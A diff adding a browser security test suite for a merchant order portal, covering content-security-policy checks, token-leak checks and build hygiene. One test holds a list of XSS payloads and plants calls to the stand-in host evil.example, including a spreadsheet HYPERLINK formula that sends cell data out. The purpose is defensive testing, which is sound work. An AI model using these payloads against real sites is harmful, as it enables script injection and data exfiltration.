@@ -1,0 +1,290 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import type { Browser, BrowserContext, Page } from 'playwright';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { launchBrowser, openContext } from './support/browser.ts';
+import { type Gateway, startGateway } from './support/gateway.ts';
+import { signIn } from './support/sign-in.ts';
+
+let gateway: Gateway;
+let browser: Browser;
+beforeAll(async () => {
+  [gateway, browser] = await Promise.all([startGateway(), launchBrowser()]);
+});
+afterAll(async () => {
+  await browser?.close();
+  await gateway?.stop();
+});
+
+const dist = resolve(import.meta.dirname, '../dist');
+/** A row such as '/mis-pedidos/cancelar-pedido, /entregar-pedido' or '/canales/x, .../setup'. */
+function pathsOf(cell: string): string[] {
+  const [first = '', ...rest] = cell.split(',').map((one) => one.trim());
+  let folder = first.slice(0, first.lastIndexOf('/'));
+  const paths = [first];
+  for (const one of rest) {
+    const besides = one.split('/').length > 2 ? one : folder + one;
+    const path = one.startsWith('...') ? first + one.slice(3) : besides;
+    folder = path.slice(0, path.lastIndexOf('/'));
+    paths.push(path);
+  }
+  return paths;
+}
+
+/** Every address of the specification: what has no page of its own yet is the page of what is not there. */
+const routes = [
+  ...new Set(
+    readFileSync(resolve(import.meta.dirname, '../../../docs/spec/product-spec.md'), 'utf8')
+      .split('\n')
+      .filter((line) => line.startsWith('| /'))
+      .flatMap((line) => pathsOf(line.split('|')[1] ?? '')),
+  ),
+];
+
+describe('the content security policy', () => {
+  test.each([
+    ['1440 px', { width: 1440, height: 900 }],
+    ['768 px', { width: 768, height: 1024 }],
+    ['390 px', { width: 390, height: 844 }],
+  ])('is not violated on any route at %s', async (_, viewport) => {
+    const context = await openContext(browser, { viewport });
+    const page = await context.newPage();
+    await signIn(page, gateway.origin);
+    expect(routes.length).toBeGreaterThan(15);
+    for (const path of routes) {
+      await page.goto(`${gateway.origin}${path}`);
+      await page.getByRole('main').first().waitFor();
+    }
+    // oxlint-disable-next-line no-console -- the counts are part of what a run shows
+    console.info(`proved: ${routes.length} routes at ${viewport.width} px without a violation`);
+    expect(context.complaints).toEqual([]);
+    await context.close();
+  });
+
+  test('catches what is planted: inline script, inline style, foreign script, picture and call, eval, a raw sink', async () => {
+    const context = await openContext(browser);
+    const page = await context.newPage();
+    await signIn(page, gateway.origin);
+    const caught = async (what: string, plant: () => Promise<unknown> | unknown) => {
+      const before = context.complaints.length;
+      await page.evaluate(plant as () => unknown).catch(() => {});
+      await expect.poll(() => context.complaints.length, { message: what }).toBeGreaterThan(before);
+    };
+    await caught('inline script', () => {
+      const script = document.createElement('script');
+      try {
+        script.textContent = 'globalThis.planted = true';
+      } catch {
+        script.append('globalThis.planted = true');
+      }
+      document.head.append(script);
+    });
+    await caught('inline style', () => {
+      const style = document.createElement('style');
+      style.textContent = 'body { display: none }';
+      document.head.append(style);
+    });
+    await caught('foreign picture', () => {
+      const image = document.createElement('img');
+      image.src = 'https://evil.example/x.png';
+      document.body.append(image);
+    });
+    await caught('foreign call', () => fetch('https://evil.example/').catch(() => {}));
+    await caught('raw sink', () => {
+      document.body.innerHTML = '<img src=x onerror="globalThis.planted = true">';
+    });
+    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
+    const counted = (await (await fetch(`${gateway.origin}/api/csp-report`)).json()) as { count: number };
+    expect(counted.count).toBeGreaterThan(0);
+    await context.close();
+  });
+});
+
+describe('what somebody else wrote', () => {
+  const payloads = [
+    '<img src=x onerror="globalThis.planted=1">',
+    '"><svg onload="globalThis.planted=1">',
+    '<script>globalThis.planted=1</script>',
+    "javascript:globalThis.planted=1//'",
+    '{{constructor.constructor("globalThis.planted=1")()}}',
+    '=HYPERLINK("https://evil.example?x="&A1,"x")',
+    '\u202E<iframe srcdoc="<script>parent.planted=1</script>">',
+  ];
+
+  /** Puts the payloads into every text that comes from a merchant's buyers. */
+  function planted(value: unknown, at: { n: number }): unknown {
+    if (Array.isArray(value)) return value.map((one) => planted(one, at));
+    if (typeof value !== 'object' || value === null) return value;
+    return Object.fromEntries(
+      Object.entries(value).map(([name, inner]) => {
+        const isText =
+          typeof inner === 'string' && /name|street|reference|neighborhood|city|sku|message/i.test(name);
+        at.n += isText ? 1 : 0;
+        return [name, isText ? payloads[at.n % payloads.length] : planted(inner, at)];
+      }),
+    );
+  }
+
+  async function poison(page: Page): Promise<{ n: number }> {
+    const at = { n: 0 };
+    await page.route('**/api/kidal/route/**', async (route) => {
+      // A page that goes on takes its requests with it.
+      const answer = await route.fetch().catch(() => null);
+      if (answer === null) return;
+      const body: unknown = await answer.json().catch(() => null);
+      await route.fulfill({ response: answer, json: planted(body, at) }).catch(() => {});
+    });
+    return at;
+  }
+
+  test('is read and never run: names, addresses, articles, messages of a failure', async () => {
+    const context = await openContext(browser);
+    const page = await context.newPage();
+    await signIn(page, gateway.origin);
+    const at = await poison(page);
+    for (const path of [
+      '/mis-pedidos?status=todos',
+      '/mis-pedidos?status=en-preparacion',
+      '/mis-pedidos/crear-guia',
+    ]) {
+      await page.goto(`${gateway.origin}${path}`);
+      await page.getByRole('main').waitFor();
+      await page.waitForLoadState('networkidle');
+    }
+    const first = page.locator('tr a, article a').first();
+    await first.click().catch(() => {});
+    await page.unrouteAll({ behavior: 'ignoreErrors' });
+    await page.route('**/api/kidal/route/**', (route) =>
+      route.fulfill({
+        status: 422,
+        json: { statusCode: 422, message: payloads[0], data: { message: payloads[1] } },
+      }),
+    );
+    await page.goto(
+      `${gateway.origin}/mis-pedidos?status=todos&search=${encodeURIComponent(payloads[0] ?? '')}`,
+    );
+    await page.getByRole('main').waitFor();
+    await page.waitForLoadState('networkidle');
+    expect(at.n).toBeGreaterThan(100);
+    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
+    expect(context.complaints).toEqual([]);
+    await context.close();
+  });
+});
+
+describe('tokens', () => {
+  /** All that a script on the page could read, databases and caches with what is in them. */
+  const readable = (page: Page) =>
+    page.evaluate(async () => {
+      const inDatabases: unknown[] = [];
+      for (const { name } of await indexedDB.databases()) {
+        if (name === undefined) continue;
+        const database = await new Promise<IDBDatabase>((opened, failed) => {
+          const request = indexedDB.open(name);
+          request.addEventListener('success', () => opened(request.result));
+          request.addEventListener('error', () => failed(request.error));
+        });
+        for (const store of database.objectStoreNames) {
+          const all = database.transaction(store).objectStore(store).getAll();
+          inDatabases.push(
+            await new Promise((read) => all.addEventListener('success', () => read(all.result))),
+          );
+        }
+        database.close();
+      }
+      const cached: string[] = [];
+      for (const name of await caches.keys()) {
+        for (const request of await (await caches.open(name)).keys()) cached.push(request.url);
+      }
+      const { cookie, documentElement } = document;
+      const history = [location.href, document.referrer, self.name];
+      return JSON.stringify([
+        { ...localStorage },
+        { ...sessionStorage },
+        cookie,
+        inDatabases,
+        cached,
+        history,
+        documentElement.outerHTML,
+      ]);
+    });
+
+  /** Of what the browser holds, what opens something; the id of an interaction stands in the provider's own address. */
+  const secretsOf = async (context: BrowserContext) =>
+    (await context.cookies()).filter(({ name }) => /session|csrf|state|pkce|nonce/.test(name));
+
+  test('of the identity provider are in no answer, no address and no storage, from sign-in to sign-out', async () => {
+    const context = await openContext(browser);
+    const page = await context.newPage();
+    const answers: string[] = [];
+    const addresses: string[] = [];
+    context.on('request', (request) => {
+      addresses.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`);
+    });
+    context.on('response', (response) => {
+      // A cookie is set for the browser, not for the page: no script reads that header.
+      const hidden = new Set(['set-cookie', 'location']);
+      const headers = Object.entries(response.headers()).filter(([name]) => !hidden.has(name));
+      answers.push(JSON.stringify(headers));
+      response.text().then(
+        (body) => answers.push(body),
+        () => {},
+      );
+    });
+    await signIn(page, gateway.origin);
+    const seen: string[] = [];
+    for (const path of [
+      '/',
+      '/mis-pedidos?status=todos',
+      '/mis-pedidos/crear-guia',
+      '/menu',
+      '/menu/perfil',
+    ]) {
+      await page.goto(`${gateway.origin}${path}`);
+      await page.getByRole('main').waitFor();
+      seen.push(await readable(page));
+    }
+    const secrets = await secretsOf(context);
+    expect(secrets.length).toBeGreaterThan(0);
+    const session = (await (
+      await context.request.get(`${gateway.origin}/api/auth/session`)
+    ).json()) as Record<string, unknown>;
+    expect(Object.keys(session).toSorted()).toEqual(['expires', 'storeId', 'token', 'user']);
+    expect(session['token']).toMatch(/^tk_/);
+    // The provider's own pages carry its own short-lived ids in their addresses; the portal's never do.
+    const ours = addresses.filter((address) => !/\/idp\/|\/api\/auth\/(?:callback|signin)/.test(address));
+    const all = [...answers, ...ours, ...seen].join('\n');
+    for (const { name, value } of secrets) {
+      expect({ name, isSeen: all.includes(value) }).toEqual({ name, isSeen: false });
+    }
+    expect(all).not.toMatch(/eyJ[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/u);
+    expect(all).not.toMatch(/"(?:access_token|refresh_token|id_token|client_secret)"/u);
+    // The ticket is held by the page alone: in no address and in no storage.
+    const ticket = String(session['token']).split('.')[0] ?? '';
+    expect([...ours, ...seen].join('\n').includes(ticket)).toBe(false);
+    // oxlint-disable-next-line no-console -- the counts are part of what a run shows
+    console.info(
+      `proved: ${answers.length} answers, ${addresses.length} requests and ${seen.length} pages searched, no token`,
+    );
+    await context.close();
+  });
+});
+
+test('the production build carries no demo, no mock, no story and no source map', () => {
+  const files = readdirSync(dist, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
+  expect(files.length).toBeGreaterThan(5);
+  expect(
+    files
+      .map(({ name }) => name)
+      .filter((name) => /\.map$|\.stories\.|storybook|mockServiceWorker/i.test(name)),
+  ).toEqual([]);
+  const words =
+    /sourceMappingURL|setupWorker|mockServiceWorker|composeStories|casalumbre|taller-norte|faker/i;
+  const found = files
+    .filter(({ name }) => /\.(?:js|css|html|json)$/.test(name))
+    .flatMap(({ parentPath, name }) => {
+      const text = readFileSync(join(parentPath, name), 'utf8');
+      return words.test(text) ? [`${name}: ${words.exec(text)?.[0]}`] : [];
+    });
+  expect(found).toEqual([]);
+});
